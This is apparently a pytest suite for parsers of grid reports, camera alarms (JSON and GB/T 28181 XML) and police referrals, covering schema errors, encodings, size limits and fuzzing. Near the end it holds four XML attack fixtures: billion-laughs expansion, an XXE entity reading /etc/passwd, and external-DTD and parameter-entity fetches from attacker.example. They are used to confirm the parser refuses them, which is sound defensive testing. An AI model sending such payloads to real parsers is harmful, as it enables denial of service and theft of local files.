"""Parsing the three inbound formats: every contract sample, every failure code, and a
property that no input raises anything but ``InvalidEvent``."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from streams.errors import InvalidEvent
from streams.parse import (
    MAX_MESSAGE_BYTES,
    PARSERS,
    parse_camera_alert,
    parse_grid_report,
    parse_police_referral,
)
from streams.records import Event, Source

CONTRACT = Path(__file__).resolve().parent.parent / "data" / "contract"
SAMPLES = CONTRACT / "samples"
CST = timezone(timedelta(hours=8))
STEMS = {Source.GRID: "grid-reports", Source.CAMERA: "camera-alerts", Source.POLICE: "police-110"}
XML_SAMPLE = (SAMPLES / "camera-alert.gb28181.xml").read_bytes()
XML_ID = "37150200011320000001|2026-11-26T21:47:05|248761"


def _lines(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (SAMPLES / name).read_text("utf-8").splitlines() if line]


def _valid(source: Source) -> list[bytes]:
    return [
        json.dumps(obj, ensure_ascii=False).encode()
        for obj in _lines(f"{STEMS[source]}.valid.jsonl")
    ]


def _invalid(source: Source) -> list[tuple[str, bytes]]:
    return [
        (obj["why"], obj["raw"].encode() if "raw" in obj else bytes.fromhex(obj["raw_hex"]))
        for obj in _lines(f"{STEMS[source]}.invalid.jsonl")
    ]


def _sample(source: Source, source_id: str) -> dict[str, Any]:
    key = {Source.GRID: "report_id", Source.CAMERA: "alert_id", Source.POLICE: "referral_id"}[
        source
    ]
    return next(o for o in _lines(f"{STEMS[source]}.valid.jsonl") if o[key] == source_id)


def _raw(obj: object) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode()


def _rejects(parse: Any, raw: bytes) -> InvalidEvent:
    with pytest.raises(InvalidEvent) as caught:
        parse(raw)
    return caught.value


# --- the contract samples -----------------------------------------------------------------


def test_parsers_cover_every_source() -> None:
    assert dict(PARSERS) == {
        Source.GRID: parse_grid_report,
        Source.CAMERA: parse_camera_alert,
        Source.POLICE: parse_police_referral,
    }


@pytest.mark.parametrize(
    ("source", "raw"), [(source, raw) for source in Source for raw in _valid(source)]
)
def test_every_valid_sample_parses(source: Source, raw: bytes) -> None:
    event = PARSERS[source](raw)
    assert event.source is source
    assert event.event_id == f"{source.value}:{event.source_id}"
    assert event.occurred_at.utcoffset() is not None and event.reported_at.utcoffset() is not None
    assert event.text


def test_every_expected_id_is_a_sample() -> None:
    expected = json.loads((SAMPLES / "expected.json").read_text("utf-8"))
    parsed = {
        source: {PARSERS[source](raw).source_id for raw in _valid(source)} for source in Source
    }
    parsed[Source.CAMERA].add(parse_camera_alert(XML_SAMPLE).source_id)
    for source, stem in STEMS.items():
        assert set(expected[stem]) == parsed[source]


# code, field, and a word the reason must contain — one row per invalid sample
INVALID = {
    (Source.GRID, "missing grid_code"): ("schema", "grid_code", "required"),
    (Source.GRID, "grid_code not 15 digits"): ("schema", "grid_code", "15 digits"),
    (Source.GRID, "reported_at is not a date-time"): ("schema", "reported_at", "'yesterday'"),
    (Source.GRID, "empty description"): ("schema", "description", "at least 1 character"),
    (Source.GRID, "not JSON"): ("not_json", None, "not JSON"),
    (Source.GRID, "JSON but not an object"): ("wrong_shape", None, "array"),
    (Source.CAMERA, "device_id not 20 digits"): ("schema", "device_id", "20-digit"),
    (Source.CAMERA, "alarm_priority out of range"): ("schema", "alarm_priority", "got 9"),
    (Source.CAMERA, "XML that is not an alarm"): ("not_alarm", "CmdType", "Keepalive"),
    (Source.CAMERA, "truncated XML"): ("malformed_xml", None, "line 1"),
    (Source.POLICE, "bjlx missing"): ("schema", "bjlx", "required"),
    (Source.POLICE, "xzqhbh of 5 digits"): ("schema", "xzqhbh", "'37150'"),
    (Source.POLICE, "invalid UTF-8 bytes"): ("bad_encoding", None, "UTF-8"),
}


def test_every_invalid_sample_has_an_expectation() -> None:
    assert {(source, why) for source in Source for why, _ in _invalid(source)} == set(INVALID)


@pytest.mark.parametrize(
    ("source", "why", "raw"),
    [(source, why, raw) for source in Source for why, raw in _invalid(source)],
)
def test_every_invalid_sample_is_rejected(source: Source, why: str, raw: bytes) -> None:
    code, field, word = INVALID[(source, why)]
    error = _rejects(PARSERS[source], raw)
    assert (error.code, error.field) == (code, field)
    assert word in error.reason
    if code == "schema":
        assert error.reason.startswith(f"{field}: ")


# --- mapping onto Event -------------------------------------------------------------------


def test_grid_report_maps_every_useful_field() -> None:
    obj = _sample(Source.GRID, "GR-20261126-000101") | {
        "happened_at": "2026-11-26T09:10:00",
        "category": {"src_domain": "矛盾劝解", "src_type": "邻里纠纷", "code": "01.02"},
        "severity_hint": "P2",
        "attachments": [
            {"type": "image", "url": "https://grid.example/a.jpg"},
            {"url": "https://grid.example/b.mp4"},
        ],
    }
    event = parse_grid_report(_raw(obj))
    assert event == Event(
        event_id="grid:GR-20261126-000101",
        source=Source.GRID,
        source_id="GR-20261126-000101",
        occurred_at=datetime(2026, 11, 26, 9, 10, tzinfo=CST),
        reported_at=datetime(2026, 11, 26, 9, 41, 22, tzinfo=CST),
        title="楼上漏水引发邻里纠纷",
        text="702室卫生间漏水至602室，双方多次争吵，602住户称将报警。",
        grid_code="371503001002003",
        lon=116.2685,
        lat=36.5915,
        address="北关社区7号楼2单元",
        reporter="WGY-0371",
        source_category="01.02",
        source_labels=("矛盾劝解", "邻里纠纷"),
        persons=2,
        risk_flags=("可能激化",),
        severity_hint="P2",
        self_resolved=False,
        media=("https://grid.example/a.jpg", "https://grid.example/b.mp4"),
    )


def test_grid_report_without_happened_at_occurred_when_reported() -> None:
    event = parse_grid_report(_raw(_sample(Source.GRID, "GR-20261126-000102")))
    assert event.occurred_at == event.reported_at == datetime(2026, 11, 26, 10, 2, tzinfo=CST)
    assert (event.source_labels, event.title, event.address, event.persons) == ((), "", None, None)


@pytest.mark.parametrize(
    ("handled", "resolved"),
    [
        ({"attempted": True, "result": "已化解"}, True),
        ({"attempted": True, "result": "未化解"}, False),
        ({"attempted": False}, False),
        (None, False),
    ],
)
def test_self_resolved_only_when_settled_on_the_spot(
    handled: dict[str, Any] | None, resolved: bool
) -> None:
    obj = _sample(Source.GRID, "GR-20261126-000105")
    obj.pop("self_handled")
    if handled is not None:
        obj["self_handled"] = handled
    assert parse_grid_report(_raw(obj)).self_resolved is resolved


def test_camera_alert_json_maps_every_useful_field() -> None:
    obj = _sample(Source.CAMERA, "CAM-37150200011320000003-20261126T101500-1") | {
        "grid_code": "371502004001002",
        "location": {"lon": 115.99, "lat": 36.456},
        "clip_url": "https://video.example/clip/1.mp4",
    }
    event = parse_camera_alert(_raw(obj))
    assert event == Event(
        event_id="camera:CAM-37150200011320000003-20261126T101500-1",
        source=Source.CAMERA,
        source_id="CAM-37150200011320000003-20261126T101500-1",
        occurred_at=datetime(2026, 11, 26, 10, 15, tzinfo=CST),
        reported_at=datetime(2026, 11, 26, 10, 15, tzinfo=CST),
        text="人员聚集，约40人",
        grid_code="371502004001002",
        lon=115.99,
        lat=36.456,
        device_id="37150200011320000003",
        source_code="crowd_gathering",
        alarm_method=5,
        alarm_type=10,
        source_priority=2,
        ai_confidence=0.92,
        media=("https://video.example/snap/1.jpg", "https://video.example/clip/1.mp4"),
    )


def test_camera_alarm_time_without_offset_is_beijing_time() -> None:
    event = parse_camera_alert(
        _raw(_sample(Source.CAMERA, "CAM-37150200081320000004-20261126T102000-7"))
    )
    assert event.occurred_at == datetime(2026, 11, 26, 2, 20, tzinfo=UTC)
    assert event.occurred_at.utcoffset() == timedelta(hours=8)


def test_police_referral_maps_pinyin_fields() -> None:
    obj = _sample(Source.POLICE, "110LD-371502-20261126-00342") | {
        "gljjdbh": "3715022026112600300",
        "grid_code": "371502004001001",
        "hazards": {
            "dangerous_goods": False,
            "explosion_leak": True,
            "trapped": True,
            "injured": 2,
            "dead": 0,
        },
    }
    event = parse_police_referral(_raw(obj))
    assert event == Event(
        event_id="police:110LD-371502-20261126-00342",
        source=Source.POLICE,
        source_id="110LD-371502-20261126-00342",
        occurred_at=datetime(2026, 11, 26, 23, 12, 48, tzinfo=CST),
        reported_at=datetime(2026, 11, 26, 23, 16, 40, tzinfo=CST),
        text="楼下烧烤摊深夜噪音大、油烟重，影响休息，要求处理。",
        grid_code="371502004001001",
        region_code="371502",
        lon=115.9852,
        lat=36.4561,
        address="新区街道化机小区4栋楼下",
        reporter="138****6610",
        source_labels=("城管执法",),
        source_code="600600",
        source_priority=4,
        risk_flags=("explosion_leak", "trapped", "injured:2"),
        call_no="3715022026112600342",
        linked_call_no="3715022026112600300",
    )


def test_police_referral_minimal() -> None:
    obj = _sample(Source.POLICE, "110LD-371503-20261126-00051") | {"gljjdbh": None}
    del obj["jqjb"]
    event = parse_police_referral(_raw(obj))
    assert (event.linked_call_no, event.source_priority, event.reporter, event.lon) == (
        None,
        None,
        None,
        None,
    )
    assert (event.region_code, event.call_no, event.risk_flags) == (
        "371503",
        "3715032026112600051",
        (),
    )


def test_unknown_fields_are_tolerated() -> None:
    for source in Source:
        obj = json.loads(_valid(source)[0]) | {"x_new_field": {"nested": [1, None]}, "v": 2}
        assert PARSERS[source](_raw(obj)) == PARSERS[source](_valid(source)[0])


# --- schema details -----------------------------------------------------------------------


def _grid(**changes: Any) -> bytes:
    obj = _sample(Source.GRID, "GR-20261126-000102")
    for key, value in changes.items():
        if value is ...:
            obj.pop(key, None)
        else:
            obj[key] = value
    return _raw(obj)


@pytest.mark.parametrize(
    ("stamp", "expected"),
    [
        ("2026-11-26T10:02:00+08:00", datetime(2026, 11, 26, 10, 2, tzinfo=CST)),
        ("2026-11-26T10:02:00", datetime(2026, 11, 26, 10, 2, tzinfo=CST)),
        ("2026-11-26T02:02:00Z", datetime(2026, 11, 26, 10, 2, tzinfo=CST)),
        ("2026-11-26t02:02:00z", datetime(2026, 11, 26, 10, 2, tzinfo=CST)),
        ("2026-11-25T21:02:00-05:00", datetime(2026, 11, 26, 10, 2, tzinfo=CST)),
        (
            "2026-11-26T10:02:00.123456789+08:00",
            datetime(2026, 11, 26, 10, 2, 0, 123456, tzinfo=CST),
        ),
    ],
)
def test_timestamps_are_aware(stamp: str, expected: datetime) -> None:
    reported = parse_grid_report(_grid(reported_at=stamp)).reported_at
    assert reported == expected and reported.utcoffset() is not None


@pytest.mark.parametrize(
    "stamp",
    [
        "yesterday",
        "2026-11-26",
        "2026-11-26 10:02:00",
        "2026-13-26T10:02:00",
        "2026-11-26T24:00:00",
        "2026-11-26T10:02:00+24:00",
        "1764122520",
        1764122520,
        None,
        "2026-11-26T10:02:00+0800",
    ],
)
def test_bad_timestamps_are_schema_errors(stamp: object) -> None:
    error = _rejects(parse_grid_report, _grid(reported_at=stamp))
    assert (error.code, error.field) == ("schema", "reported_at")


@pytest.mark.parametrize(
    ("changes", "field", "word"),
    [
        ({"report_id": ""}, "report_id", "at least 1"),
        ({"report_id": "x" * 65}, "report_id", "at most 64"),
        ({"report_id": 17}, "report_id", "valid string"),
        ({"grid_code": "３７１５０２００４００１００２"}, "grid_code", "15 digits"),
        ({"grid_code": "371502004001002\n"}, "grid_code", "15 digits"),
        ({"reporter": {}}, "reporter.staff_id", "required"),
        ({"reporter": None}, "reporter", "object"),
        ({"reporter": {"staff_id": "W", "phone": "1" * 21}}, "reporter.phone", "at most 20"),
        ({"category": {"code": "5.3"}}, "category.code", "'05.03'"),
        ({"title": None}, "title", "null"),
        ({"description": "长" * 4001}, "description", "at most 4000"),
        ({"location": {"lon": 181, "lat": 36}}, "location.lon", "180"),
        ({"location": {"lon": 116, "lat": "36"}}, "location.lat", "number"),
        ({"involved_persons": -1}, "involved_persons", "greater than or equal to 0"),
        ({"involved_persons": 100_001}, "involved_persons", "100000"),
        ({"involved_persons": 2.0}, "involved_persons", "integer"),
        ({"involved_persons": "2"}, "involved_persons", "integer"),
        ({"involved_persons": True}, "involved_persons", "integer"),
        ({"risk_flags": ["x"] * 17}, "risk_flags", "at most 16"),
        ({"risk_flags": ["x" * 33]}, "risk_flags.0", "at most 32"),
        ({"self_handled": {"result": "好了"}}, "self_handled.result", "已化解"),
        ({"self_handled": {"attempted": "yes"}}, "self_handled.attempted", "boolean"),
        ({"severity_hint": "P5"}, "severity_hint", "'P1'"),
        ({"attachments": [{"type": "image"}]}, "attachments.0.url", "required"),
        ({"attachments": [{"url": "u", "type": "pdf"}]}, "attachments.0.type", "'image'"),
        ({"happened_at": "soon"}, "happened_at", "RFC 3339"),
    ],
)
def test_grid_report_schema(changes: dict[str, Any], field: str, word: str) -> None:
    error = _rejects(parse_grid_report, _grid(**changes))
    assert (error.code, error.field) == ("schema", field)
    assert word in error.reason, error.reason


def test_every_missing_required_field_is_named() -> None:
    for source, required in (
        (Source.GRID, ["report_id", "grid_code", "reported_at", "reporter", "description"]),
        (Source.CAMERA, ["alert_id", "device_id", "alarm_time", "alarm_priority", "alarm_method"]),
        (
            Source.POLICE,
            ["referral_id", "jjdbh", "xzqhbh", "bjsj", "referred_at", "sfdz", "bjnr", "bjlx"],
        ),
    ):
        for name in required:
            obj = json.loads(_valid(source)[0])
            del obj[name]
            error = _rejects(PARSERS[source], _raw(obj))
            assert (error.code, error.field, error.reason) == (
                "schema",
                name,
                f"{name}: is required",
            )


def test_reason_lists_all_errors_field_names_the_first() -> None:
    error = _rejects(
        parse_grid_report, _grid(report_id="", grid_code="1", description=..., severity_hint="P0")
    )
    assert error.field == "report_id"
    for name in (
        "report_id:",
        "grid_code: '1' must be 15 digits",
        "description: is required",
        "severity_hint:",
    ):
        assert name in error.reason
    assert error.reason.count("; ") == 3


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"alarm_priority": 0}, "alarm_priority"),
        ({"alarm_priority": "2"}, "alarm_priority"),
        ({"alarm_method": 8}, "alarm_method"),
        ({"alarm_type": 1000}, "alarm_type"),
        ({"confidence": 1.01}, "confidence"),
        ({"channel_id": "123"}, "channel_id"),
        ({"grid_code": "37150200400100"}, "grid_code"),
        ({"alarm_time": "10:15"}, "alarm_time"),
        ({"ai_event_code": "x" * 49}, "ai_event_code"),
        ({"alert_id": "x" * 97}, "alert_id"),
    ],
)
def test_camera_alert_schema(changes: dict[str, Any], field: str) -> None:
    obj = _sample(Source.CAMERA, "CAM-37150200011320000003-20261126T101500-1") | changes
    error = _rejects(parse_camera_alert, _raw(obj))
    assert (error.code, error.field) == ("schema", field)


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"jqjb": 1}, "jqjb"),
        ({"jqjb": "5"}, "jqjb"),
        ({"bjlx": "60060"}, "bjlx"),
        ({"xzqhbh": "3715020041"}, "xzqhbh"),
        ({"gljjdbh": "x" * 33}, "gljjdbh"),
        ({"sfdz": ""}, "sfdz"),
        ({"bjnr": "x" * 2001}, "bjnr"),
        ({"caller": {"gender": "X"}}, "caller.gender"),
        ({"hazards": {"injured": -1}}, "hazards.injured"),
        ({"hazards": {"trapped": 1}}, "hazards.trapped"),
        ({"referred_at": "2026-11-26"}, "referred_at"),
    ],
)
def test_police_referral_schema(changes: dict[str, Any], field: str) -> None:
    obj = _sample(Source.POLICE, "110LD-371503-20261126-00051") | changes
    error = _rejects(parse_police_referral, _raw(obj))
    assert (error.code, error.field) == ("schema", field)


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b"", "not_json"),
        (b"   ", "not_json"),
        (b"{} {}", "not_json"),
        (b'{"report_id": NaN', "not_json"),
        (b"null", "wrong_shape"),
        (b'"text"', "wrong_shape"),
        (b"42", "wrong_shape"),
        (b"<Notify/>", "not_json"),
        ("{'中文'}".encode("gbk"), "bad_encoding"),
        (b"[" * 100_000, "not_json"),
    ],
)
def test_json_level_failures(raw: bytes, code: str) -> None:
    for parse in (parse_grid_report, parse_police_referral):
        assert _rejects(parse, raw).code == code


def test_utf8_bom_is_tolerated() -> None:
    raw = _valid(Source.GRID)[0]
    assert parse_grid_report(b"\xef\xbb\xbf" + raw) == parse_grid_report(raw)


# --- size ---------------------------------------------------------------------------------


@pytest.mark.parametrize("parse", [parse_grid_report, parse_camera_alert, parse_police_referral])
def test_over_one_mebibyte_is_too_large_before_anything_else(parse: Any) -> None:
    for raw in (b"\xff" * (MAX_MESSAGE_BYTES + 1), b"<" + b"!" * MAX_MESSAGE_BYTES):
        error = _rejects(parse, raw)
        assert error.code == "too_large" and str(MAX_MESSAGE_BYTES + 1) in error.reason


def test_exactly_one_mebibyte_is_accepted() -> None:
    raw = _valid(Source.GRID)[0]
    padded = raw + b" " * (MAX_MESSAGE_BYTES - len(raw))
    assert len(padded) == MAX_MESSAGE_BYTES
    assert parse_grid_report(padded).source_id == "GR-20261126-000101"


# --- GB/T 28181 XML -----------------------------------------------------------------------


def _xml(encoding: str | None, replace: dict[str, str] | None = None) -> bytes:
    """The sample, re-declared and re-encoded, with elements' text replaced."""
    text = XML_SAMPLE.decode("utf-8")
    for old, new in (replace or {}).items():
        assert old in text
        text = text.replace(old, new)
    if encoding is None:
        return text.replace('<?xml version="1.0" encoding="UTF-8"?>', "").encode("utf-8")
    return text.replace('encoding="UTF-8"', f'encoding="{encoding}"').encode(
        "utf-8" if encoding.upper() == "UTF-8" else encoding
    )


def test_gb28181_sample() -> None:
    event = parse_camera_alert(XML_SAMPLE)
    assert event == Event(
        event_id=f"camera:{XML_ID}",
        source=Source.CAMERA,
        source_id=XML_ID,
        occurred_at=datetime(2026, 11, 26, 21, 47, 5, tzinfo=CST),
        reported_at=datetime(2026, 11, 26, 21, 47, 5, tzinfo=CST),
        text="入侵检测：人员翻越围栏(河道护栏)",
        lon=115.9849,
        lat=36.4541,
        device_id="37150200011320000001",
        alarm_method=5,
        alarm_type=6,
        source_priority=2,
    )


GBK_ONLY = "朱镕基路"  # 镕 is in GBK, not in GB2312


@pytest.mark.parametrize(
    ("encoding", "description"),
    [
        ("UTF-8", "入侵检测：人员翻越围栏(河道护栏)"),
        ("GB2312", "入侵检测：人员翻越围栏(河道护栏)"),
        ("GBK", f"入侵检测：{GBK_ONLY}人员翻越围栏"),
        ("gb18030", f"入侵检测：{GBK_ONLY}人员翻越围栏"),
        (None, "入侵检测：人员翻越围栏(河道护栏)"),
    ],
)
def test_gb28181_declared_encodings(encoding: str | None, description: str) -> None:
    raw = _xml(encoding, {"入侵检测：人员翻越围栏(河道护栏)": description})
    if encoding not in (None, "UTF-8"):
        with pytest.raises(UnicodeDecodeError):
            raw.decode("utf-8")  # the test really feeds non-UTF-8 bytes
    event = parse_camera_alert(raw)
    assert (event.source_id, event.text) == (XML_ID, description)


def test_gb2312_declared_body_with_gbk_characters() -> None:
    assert GBK_ONLY.encode("gbk")
    with pytest.raises(UnicodeEncodeError):
        GBK_ONLY.encode("gb2312")
    text = XML_SAMPLE.decode().replace('"UTF-8"', '"GB2312"').replace("河道护栏", GBK_ONLY)
    assert GBK_ONLY in parse_camera_alert(text.encode("gbk")).text


@pytest.mark.parametrize(
    ("raw", "word"),
    [
        (_xml("UTF-8").replace("入侵".encode(), "入侵".encode("gbk")), "UTF-8"),
        (_xml(None).replace("入侵".encode(), "入侵".encode("gbk")), "UTF-8"),
        (_xml("GB2312")[:-30] + b"\x81\x20</Notify>", "GB2312"),
        (_xml("UTF-8").replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), "ISO-8859-1"),
        (_xml("UTF-8").replace(b'encoding="UTF-8"', b'encoding="UTF-16"'), "UTF-16"),
    ],
)
def test_gb28181_bad_encoding(raw: bytes, word: str) -> None:
    error = _rejects(parse_camera_alert, raw)
    assert error.code == "bad_encoding" and word in error.reason


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Notify><CmdType>Alarm</CmdType><SN>1</SN><AlarmDescription>&lol9;</AlarmDescription></Notify>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Notify [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Notify><CmdType>Alarm</CmdType><SN>1</SN><AlarmDescription>&xxe;</AlarmDescription></Notify>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Notify SYSTEM "http://attacker.example/notify.dtd">
<Notify><CmdType>Alarm</CmdType></Notify>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Notify [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Notify/>"""


@pytest.mark.parametrize("raw", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_unsafe_xml_is_refused(raw: bytes) -> None:
    assert _rejects(parse_camera_alert, raw).code == "unsafe_xml"


@pytest.mark.parametrize(
    "raw",
    [
        b"<Notify>",
        b"<Notify><CmdType>Alarm</CmdType></Notify><extra/>",
        b"<a></b>",
        b"<",
        b"  \n<Notify>&undefined;</Notify>",
        b"<Notify>\x00</Notify>",
    ],
)
def test_malformed_xml(raw: bytes) -> None:
    assert _rejects(parse_camera_alert, raw).code == "malformed_xml"


@pytest.mark.parametrize(
    ("raw", "word"),
    [
        (_xml("UTF-8", {"<CmdType>Alarm</CmdType>": "<CmdType>Catalog</CmdType>"}), "'Catalog'"),
        (_xml("UTF-8", {"<CmdType>Alarm</CmdType>": ""}), "without CmdType"),
        (_xml("UTF-8", {"<Notify>": "<Response>", "</Notify>": "</Response>"}), "<Response>"),
        (b"<Query><CmdType>Alarm</CmdType></Query>", "<Query>"),
    ],
)
def test_gb28181_other_than_alarm_notify(raw: bytes, word: str) -> None:
    error = _rejects(parse_camera_alert, raw)
    assert (error.code, error.field) == ("not_alarm", "CmdType") and word in error.reason


@pytest.mark.parametrize(
    ("replace", "field", "word"),
    [
        ({"<SN>248761</SN>": ""}, "SN", "required"),
        ({"<SN>248761</SN>": "<SN>24a</SN>"}, "SN", "'24a'"),
        ({"<DeviceID>37150200011320000001</DeviceID>": ""}, "DeviceID", "required"),
        (
            {"<DeviceID>37150200011320000001</DeviceID>": "<DeviceID>3715</DeviceID>"},
            "DeviceID",
            "20-digit",
        ),
        (
            {"<AlarmTime>2026-11-26T21:47:05</AlarmTime>": "<AlarmTime>21:47</AlarmTime>"},
            "AlarmTime",
            "RFC 3339",
        ),
        (
            {"<AlarmPriority>2</AlarmPriority>": "<AlarmPriority>high</AlarmPriority>"},
            "AlarmPriority",
            "integer",
        ),
        (
            {"<AlarmPriority>2</AlarmPriority>": "<AlarmPriority>5</AlarmPriority>"},
            "AlarmPriority",
            "4",
        ),
        ({"<AlarmMethod>5</AlarmMethod>": ""}, "AlarmMethod", "required"),
        ({"<AlarmType>6</AlarmType>": "<AlarmType>-1</AlarmType>"}, "Info.AlarmType", "0"),
        ({"<Longitude>115.9849</Longitude>": "<Longitude>east</Longitude>"}, "Longitude", "number"),
        ({"<Latitude>36.4541</Latitude>": "<Latitude>nan</Latitude>"}, "Latitude", "finite"),
    ],
)
def test_gb28181_fields_are_validated(replace: dict[str, str], field: str, word: str) -> None:
    error = _rejects(parse_camera_alert, _xml("UTF-8", replace))
    assert (error.code, error.field) == ("schema", field)
    assert word in error.reason, error.reason


def test_gb28181_sn_and_other_errors_are_listed_together() -> None:
    raw = _xml(
        "UTF-8",
        {
            "<SN>248761</SN>": "",
            "<AlarmPriority>2</AlarmPriority>": "<AlarmPriority>9</AlarmPriority>",
        },
    )
    error = _rejects(parse_camera_alert, raw)
    assert error.field == "SN" and "AlarmPriority" in error.reason


def test_gb28181_optional_parts_and_offsets() -> None:
    raw = _xml(
        "GBK",
        {
            "<Longitude>115.9849</Longitude>": "<Longitude/>",
            "<Latitude>36.4541</Latitude>": "",
            "<Info>\n<AlarmType>6</AlarmType>": "<Info>",
            "<AlarmTime>2026-11-26T21:47:05</AlarmTime>": (
                "<AlarmTime> 2026-11-26T13:47:05Z </AlarmTime>"
            ),
            "<SN>248761</SN>": "<SN>\n 7 \n</SN>",
        },
    )
    event = parse_camera_alert(b"\n  " + raw)
    assert event.source_id == "37150200011320000001|2026-11-26T13:47:05Z|7"
    assert event.occurred_at == datetime(2026, 11, 26, 21, 47, 5, tzinfo=CST)
    assert (event.lon, event.lat, event.alarm_type) == (None, None, None)


# --- property: nothing but InvalidEvent escapes -------------------------------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)
ALL_FIELDS = sorted(
    {key for source in Source for raw in _valid(source) for key in json.loads(raw)}
    | {"gljjdbh", "hazards", "attachments", "self_handled", "channel_id", "clip_url"}
)


def _only_invalid_event(parse: Any, raw: bytes) -> None:
    try:
        event = parse(raw)
    except InvalidEvent as error:
        assert error.code in {
            "too_large",
            "bad_encoding",
            "not_json",
            "wrong_shape",
            "malformed_xml",
            "unsafe_xml",
            "not_alarm",
            "schema",
            "control_char",
        }
        assert error.reason
    else:
        assert isinstance(event, Event)


QUICK = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@QUICK
@given(source=st.sampled_from(list(Source)), raw=st.binary(max_size=512))
def test_arbitrary_bytes_raise_only_invalid_event(source: Source, raw: bytes) -> None:
    _only_invalid_event(PARSERS[source], raw)


@QUICK
@given(source=st.sampled_from(list(Source)), value=JSON_VALUES)
def test_arbitrary_json_raises_only_invalid_event(source: Source, value: object) -> None:
    _only_invalid_event(PARSERS[source], json.dumps(value).encode())


@QUICK
@given(
    source=st.sampled_from(list(Source)),
    index=st.integers(min_value=0, max_value=4),
    changes=st.dictionaries(st.sampled_from(ALL_FIELDS), JSON_VALUES, min_size=1, max_size=3),
)
def test_mutated_samples_raise_only_schema_errors(
    source: Source, index: int, changes: dict[str, Any]
) -> None:
    samples = _valid(source)
    obj = json.loads(samples[index % len(samples)]) | changes
    try:
        event = PARSERS[source](_raw(obj))
    except InvalidEvent as error:  # a text may hold a control character: refused as such
        assert (
            error.code in ("schema", "control_char")
            and error.field
            and error.reason.startswith(error.field.split(".")[0])
        )
    else:
        assert isinstance(event, Event)


XML_TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=20)


@QUICK
@given(
    element=st.sampled_from(
        [
            "CmdType",
            "SN",
            "DeviceID",
            "AlarmPriority",
            "AlarmMethod",
            "AlarmTime",
            "AlarmDescription",
            "Longitude",
            "Latitude",
            "AlarmType",
        ]
    ),
    text=XML_TEXT,
    encoding=st.sampled_from(["UTF-8", "GB2312", "GBK"]),
)
def test_mutated_gb28181_raises_only_invalid_event(element: str, text: str, encoding: str) -> None:
    body = XML_SAMPLE.decode().replace('"UTF-8"', f'"{encoding}"')
    start, end = body.index(f"<{element}>") + len(element) + 2, body.index(f"</{element}>")
    body = body[:start] + text + body[end:]
    _only_invalid_event(
        parse_camera_alert, body.encode("gb18030" if encoding != "UTF-8" else "utf-8")
    )


@QUICK
@given(tail=st.binary(max_size=256))
def test_arbitrary_xml_like_bytes_raise_only_invalid_event(tail: bytes) -> None:
    _only_invalid_event(parse_camera_alert, b'<?xml version="1.0" encoding="GBK"?><Notify>' + tail)


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x85"])
@pytest.mark.parametrize("source", list(Source))
def test_a_control_character_in_any_text_is_refused_with_where_it_is(
        source: Source, character: str) -> None:
    obj = json.loads(_valid(source)[0])
    field = {Source.GRID: "description", Source.CAMERA: "description",
             Source.POLICE: "bjnr"}[source]
    obj[field] = f"前面{character}后面"
    error = _rejects(PARSERS[source], json.dumps(obj, ensure_ascii=True).encode())
    assert (error.code, error.field) == ("control_char", field)
    assert f"U+{ord(character):04X} at position 2" in error.reason


@pytest.mark.parametrize("character", ["\x7f", "\x85", "\x9f"])
def test_a_control_character_written_as_itself_or_an_upper_case_escape_is_refused(
        character: str) -> None:
    obj = json.loads(_valid(Source.POLICE)[0])
    obj["bjnr"] = f"前面{character}后面"
    raw = json.dumps(obj, ensure_ascii=False)  # JSON allows these unescaped
    escaped = json.dumps(obj, ensure_ascii=True).replace(f"\\u{ord(character):04x}",
                                                         f"\\u{ord(character):04X}")
    for body in (raw, escaped):
        error = _rejects(parse_police_referral, body.encode())
        assert (error.code, error.field) == ("control_char", "bjnr")


def test_tabs_and_line_breaks_are_text() -> None:
    obj = json.loads(_valid(Source.GRID)[0])
    obj["description"] = "第一行\r\n第二行\t完"
    assert parse_grid_report(json.dumps(obj).encode()).text == "第一行\r\n第二行\t完"
